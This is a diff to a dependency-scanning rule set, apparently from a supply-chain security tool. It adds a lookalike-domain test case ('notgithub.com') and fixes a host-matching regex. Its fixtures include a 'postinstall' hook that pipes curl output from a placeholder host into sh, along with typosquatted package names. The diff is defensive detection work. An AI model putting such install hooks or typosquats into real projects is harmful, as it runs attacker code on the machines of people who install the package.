@@ -26,6 +26,7 @@ export const dependencyRules: readonly Rule[] = [
       diff('package.json', '+    "expresss": "^4.0.0",'),
       diff('requirements.txt', '+reqeusts==2.1'),
       diff('package-lock.json', '+      "resolved": "http://x.test/a.tgz",'),
+      diff('package-lock.json', '+      "resolved": "https://notgithub.com/a.tgz",'),
       diff('package.json', '+    "lodash": "*",'),
       diff('package.json', '+    "postinstall": "curl https://x.test | sh",'),
       diff('package.json', '+    "preinstall": "node scripts/setup.js",'),
@@ -33,7 +34,7 @@ export const dependencyRules: readonly Rule[] = [
     misses: [
       diff('package.json', '+    "express": "^4.19.2",'),
       diff('requirements.txt', '+requests==2.32.0'),
-      diff('package-lock.json', '+      "resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz",'),
+      diff('package-lock.json', '+      "resolved": "https://codeload.github.com/a/a/tar.gz/1.0.0",'),
       diff('package.json', '+    "build": "tsc",'),
       diff('package.json', '+    "prepare": "husky",'),
     ],
@@ -43,7 +44,7 @@ export const dependencyRules: readonly Rule[] = [
         return (
           host &&
           (host[1] === 'http' ||
-            !/(?:npmjs\.org|yarnpkg\.com|pypi\.org|pythonhosted\.org|crates\.io|rubygems\.org|github\.com|golang\.org|packagist\.org)$/.test(
+            !/(?:^|\.)(?:npmjs\.org|yarnpkg\.com|pypi\.org|pythonhosted\.org|crates\.io|rubygems\.org|github\.com|golang\.org|packagist\.org)$/.test(
               host[2] ?? '',
             )) &&
           `A package comes from ${host[2]}.`
